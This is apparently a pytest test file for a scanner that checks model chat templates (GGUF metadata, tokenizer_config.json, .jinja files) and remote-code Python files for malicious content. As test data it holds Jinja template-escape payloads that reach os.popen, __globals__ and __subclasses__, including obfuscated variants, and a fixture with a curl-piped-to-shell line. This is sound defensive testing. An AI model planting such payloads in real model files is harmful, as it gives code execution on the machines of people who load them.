"""Chat templates (GGUF metadata, tokenizer_config.json, .jinja) and remote code, statically."""

from __future__ import annotations

import json

import gguf
import numpy as np
import pytest

from weightwatch.scan import Location, Severity, Verdict, scan_paths
from weightwatch.scan.templates import analyze_template

BENIGN = [
    # the shapes real chat templates take: loops, namespace(), conditionals, filters
    "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}<|end|>{% endfor %}"
    "{% if add_generation_prompt %}<|assistant|>{% endif %}",
    "{{ bos_token }}{% set ns = namespace(system='') %}{% for m in messages %}"
    "{% if m.role == 'system' %}{% set ns.system = m.content %}{% elif m.role == 'user' %}"
    "[INST] {{ (ns.system ~ '\\n' ~ m.content) | trim }} [/INST]{% else %}{{ m.content }}{{ eos_token }}"
    "{% endif %}{% if loop.last and tools %}{{ tools | tojson }}{% endif %}{% endfor %}",
    "{% if messages[0]['role'] != 'user' %}{{ raise_exception('Conversation roles must alternate') }}"
    "{% endif %}{% for message in messages %}{{ message.content }}{% endfor %}",
]
ESCAPES = {
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}": Severity.CRITICAL,
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": Severity.CRITICAL,
    "{{ messages['__class__'] }}": Severity.CRITICAL,
    "{{ messages|attr('__class__') }}": Severity.CRITICAL,
    "{{ messages|attr('__cl' ~ 'ass__') }}": Severity.HIGH,
    "{{ self._TemplateReference__context }}": Severity.CRITICAL,
    "{{ lipsum.__globals__ }}": Severity.CRITICAL,
    "{% include 'other.jinja' %}": Severity.HIGH,
    "{{ messages[('__cl', 'ass__')|join] }}": Severity.HIGH,
}


@pytest.mark.parametrize("text", BENIGN)
def test_benign_templates(text):
    assert list(analyze_template(text, Location(file="t"))) == []


@pytest.mark.parametrize(("text", "severity"), ESCAPES.items())
def test_escape_patterns(text, severity):
    found = list(analyze_template(text, Location(file="t")))
    assert found and max(f.severity.rank for f in found) == severity.rank, found


def test_templates_found_in_every_place(tmp_path):
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    (tmp_path / "tokenizer_config.json").write_text(
        json.dumps({"chat_template": [{"name": "tool_use", "template": evil}]})
    )
    (tmp_path / "chat_template.jinja").write_text(
        "{% for message in messages %}" + evil + "{% endfor %}"
    )
    w = gguf.GGUFWriter(str(tmp_path / "m.gguf"), "llama")
    w.add_chat_template(evil)
    w.add_tensor("w", np.ones((2, 32), np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    report = scan_paths([tmp_path])
    by_file = {f.path.split("/")[-1]: f for f in report.files}
    for name in ("tokenizer_config.json", "chat_template.jinja", "m.gguf"):
        assert by_file[name].verdict is Verdict.MALICIOUS, name
    member = by_file["tokenizer_config.json"].findings[0].location.member
    assert member == "chat_template[tool_use]"
    assert by_file["m.gguf"].findings[0].location.member == "tokenizer.chat_template"


def test_unparseable_template(tmp_path):
    (tmp_path / "tokenizer_config.json").write_text(
        json.dumps({"chat_template": "{% for m in messages %}"})
    )
    report = scan_paths([tmp_path / "tokenizer_config.json"]).files[0]
    assert report.findings[0].rule_id == "WW-TEMPLATE-003"


def test_remote_code(tmp_path):
    (tmp_path / "config.json").write_text(
        json.dumps(
            {
                "model_type": "x",
                "auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.C"},
            }
        )
    )  # a file no auto_map names is informational (tests/scan/test_python_files.py)
    (tmp_path / "modeling_x.py").write_text(
        "import torch\nfrom torch import nn\n\nclass XModel(nn.Module):\n    pass\n"
    )
    (tmp_path / "configuration_x.py").write_text(
        "import os\nimport torch\n\ndef setup():\n    os.system('curl example | sh')\n    return eval('1')\n"
    )
    report = scan_paths([tmp_path])
    by_file = {f.path.split("/")[-1]: f for f in report.files}
    assert by_file["config.json"].verdict is Verdict.SUSPICIOUS
    assert by_file["modeling_x.py"].verdict is Verdict.SUSPICIOUS
    assert "torch" in by_file["modeling_x.py"].findings[0].explanation
    bad = by_file["configuration_x.py"]
    assert bad.verdict is Verdict.MALICIOUS
    assert any(
        "os" in f.evidence.get("modules", []) and "eval" in f.evidence.get("calls", [])
        for f in bad.findings
    )


def test_numeric_message_index_is_not_a_computed_name():
    """Bug (found by the benign corpus): Qwen2.5's published template indexes
    ``messages[loop.index0 + 1]``; an integer cannot name an attribute."""
    from weightwatch.scan.findings import Location
    from weightwatch.scan.templates import analyze_template
    from weightwatch.testing.chat_templates import QWEN25

    loc = Location(file="tokenizer_config.json")
    assert list(analyze_template(QWEN25, loc)) == []
    computed = "{{ messages[0]['con' + 'tent'] }}{{ messages[loop.index0 ~ 'x'] }}"
    assert [f.rule_id for f in analyze_template(computed, loc)] == ["WW-TEMPLATE-002"]
